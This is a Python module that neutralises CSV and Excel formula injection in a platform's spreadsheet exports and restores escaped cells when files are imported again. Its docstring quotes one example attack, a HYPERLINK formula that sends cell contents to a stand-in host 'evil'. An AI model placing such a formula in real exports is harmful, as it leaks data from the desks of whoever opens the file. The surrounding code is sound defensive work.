"""Cells of every spreadsheet the platform hands out (CSV and Excel), safe to open.

A cell that starts with = + - @ (or a tab or carriage return, per OWASP "CSV injection") is
read by Excel and WPS as a formula: a story title or department name typed as
``=HYPERLINK("http://evil/?"&A1,"点这里")`` would run on the desk of whoever opens the
export. Every CSV writer passes its cells through ``safe_cell``, which puts an apostrophe
in front (the spreadsheet convention for "this is text"); every openpyxl workbook goes
through ``safe_workbook``, which stores would-be formulas as plain text.

``restore_cell`` undoes ``safe_cell`` exactly, for files we read back (the review check
lists are exported, edited in Excel and imported again): a leading apostrophe is only
added when the text starts with apostrophes followed by a trigger character, and only
such an apostrophe is removed, so ``restore_cell(safe_cell(x)) == x`` for every text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_RISKY = re.compile(r"'*[=+\-@\t\r]")
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")


def safe_cell(value):
    """The value as a spreadsheet shows it as text: text that a spreadsheet would take
    for a formula gets a leading apostrophe. Numbers, dates and None pass unchanged."""
    if isinstance(value, str) and _RISKY.match(value):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    """``safe_cell`` for every cell of one row (for ``csv.writer.writerow``)."""
    return [safe_cell(value) for value in values]


def restore_cell(text: str) -> str:
    """The text before ``safe_cell``: one leading apostrophe is dropped where ``safe_cell``
    would have added it; any other text is returned as it is."""
    if _NEUTRALISED.match(text):
        return text[1:]
    return text


_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def xlsx_cell(value):
    """The value as an .xlsx cell can hold it: XML 1.0 has no place for control characters
    other than tab and line breaks, and openpyxl refuses them (IllegalCharacterError) — a
    title pasted from a platform with a stray \\x01 must not break the whole download.
    Other values pass unchanged."""
    if isinstance(value, str) and _XLSX_ILLEGAL.search(value):
        return _XLSX_ILLEGAL.sub("", value)
    return value


def safe_workbook(workbook):
    """Every text cell of an openpyxl workbook that openpyxl would write as a formula
    (text starting with =) is written as the text itself. Returns the workbook.

    In .xlsx only = makes a formula; the text keeps its own characters, no apostrophe.
    Call it last, after every cell is filled.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and isinstance(cell.value, str):
                    cell.data_type = "s"
    return workbook
